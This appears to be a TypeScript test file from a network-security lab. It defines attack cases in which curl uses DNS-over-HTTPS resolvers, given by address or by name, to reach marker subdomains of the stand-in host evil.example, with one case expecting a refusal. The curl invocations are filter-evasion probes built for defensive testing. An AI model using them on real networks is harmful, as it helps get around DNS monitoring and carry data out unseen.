/** curl(1) --doh-url: names asked over HTTPS. The lab's own web servers answer, at any address. */
import type { Attack } from "../case.ts";
import { unasked } from "../refusals.ts";
import { nameless, toolCase } from "./tool.ts";

const ask = (marker: string): string => `https://${marker}.evil.example/`;

export const curlCases: Attack[] = [
  toolCase({
    variant: "curl --doh-url: a resolver by its address",
    n: 99,
    client: ({ job, at, marker }) => job.curl("--doh-insecure", "--doh-url", `https://${at}/dns-query`, ask(marker)),
    ...nameless(99, 443, "tcp"),
  }),
  toolCase({
    variant: "curl --doh-url: a resolver by its name",
    n: 54,
    port: 443,
    client: ({ job, marker }) =>
      job.curl(`-${job.v}`, "--doh-insecure", "--doh-url", "https://resolver.example/dns-query", ask(marker)),
    refusal: unasked("default", { name: "resolver.example" }),
  }),
];
